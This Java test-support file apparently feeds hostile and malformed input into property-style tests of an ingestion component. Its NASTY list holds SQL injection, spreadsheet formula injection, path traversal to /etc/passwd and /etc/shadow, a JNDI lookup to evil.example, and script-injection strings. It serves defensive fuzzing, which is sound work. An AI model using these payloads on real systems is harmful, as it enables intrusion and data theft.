package org.envelopereview.action.ingest;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Generators of hostile and malformed input for the property-style tests: every generator
 * draws from a seeded {@link Random}, so a failing case can be replayed from its seed and
 * case number.
 */
final class HostileInput {

	/** Strings that attack what they end up in: SQL, CSV, paths, PDF text, terminals. */
	static final List<String> NASTY = List.of("'; DROP TABLE agent_action; --", "\" OR \"1\"=\"1", "a' OR 'a'='a",
			"%' AND 1=1 --", "\\'; SELECT pg_sleep(10); --", "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)",
			"=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "../../etc/passwd", "..\\..\\windows\\system32",
			"/etc/shadow", "file:///etc/passwd", "${jndi:ldap://evil.example/a}", "#{7*7}", "<script>alert(1)</script>",
			"nul\u0000byte", "bell\u0007", "esc\u001b[31mred", "del\u007f", "c1\u0085next", "\u202Egnp.exe",
			"\u2066isolate\u2069", "שלום עולם", "مرحبا", "emoji 🚀", "\uFEFFbom", "line\nbreak", "cr\rreturn",
			"a,b,\"c\"", "", " ", "0", "-1", "1e309", "NaN", "null", "true", "{}", "[]", "\\u0000");

	/** Bytes that break parsers: structure, NUL, controls, invalid UTF-8. */
	private static final byte[] SPECIAL = "{}[]\",:\\\n\r\t 0123456789.-eE".getBytes(StandardCharsets.US_ASCII);

	private HostileInput() {
	}

	/** Random bytes, biased towards structure and bytes that are not valid UTF-8. */
	static byte[] bytes(Random random, int maxLength) {
		byte[] bytes = new byte[random.nextInt(maxLength + 1)];
		for (int i = 0; i < bytes.length; i++) {
			int pick = random.nextInt(10);
			if (pick < 5) {
				bytes[i] = SPECIAL[random.nextInt(SPECIAL.length)];
			}
			else if (pick < 7) {
				bytes[i] = (byte) (0x80 + random.nextInt(0x80));
			}
			else if (pick < 8) {
				bytes[i] = (byte) random.nextInt(0x20);
			}
			else {
				bytes[i] = (byte) (0x20 + random.nextInt(0x5f));
			}
		}
		return bytes;
	}

	/** A string of random code points, including controls, bidi controls and NUL. */
	static String text(Random random, int maxLength) {
		StringBuilder text = new StringBuilder();
		int length = random.nextInt(maxLength + 1);
		for (int i = 0; i < length; i++) {
			int pick = random.nextInt(8);
			int codePoint = switch (pick) {
				case 0 -> random.nextInt(0x20);
				case 1 -> 0x202A + random.nextInt(5);
				case 2 -> 0x0590 + random.nextInt(0x100);
				case 3 -> 0x1F300 + random.nextInt(0x100);
				default -> 0x20 + random.nextInt(0x5f);
			};
			text.appendCodePoint(codePoint);
		}
		return text.toString();
	}

	static String nasty(Random random) {
		return (random.nextInt(3) == 0) ? text(random, 40) : NASTY.get(random.nextInt(NASTY.size()));
	}

	/** A JSON value nested {@code depth} levels deep, in arrays or objects. */
	static String nested(int depth, boolean objects) {
		StringBuilder json = new StringBuilder(depth * 6);
		for (int i = 0; i < depth; i++) {
			json.append(objects ? "{\"a\":" : "[");
		}
		json.append('1');
		for (int i = 0; i < depth; i++) {
			json.append(objects ? '}' : ']');
		}
		return json.toString();
	}

	/**
	 * Whether a string holds a character that must never reach the database, the PDF or a
	 * terminal: a control character other than tab, line feed and carriage return, or a
	 * bidirectional embedding, override or isolate.
	 */
	static boolean hasForbiddenCharacter(String value) {
		if (value == null) {
			return false;
		}
		return value.codePoints()
			.anyMatch((c) -> (c < 0x20 && c != '\t' && c != '\n' && c != '\r') || (c >= 0x7f && c <= 0x9f)
					|| (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069));
	}

	static boolean isUtf8(byte[] bytes) {
		try {
			StandardCharsets.UTF_8.newDecoder().decode(java.nio.ByteBuffer.wrap(bytes));
			return true;
		}
		catch (java.nio.charset.CharacterCodingException ex) {
			return false;
		}
	}

}
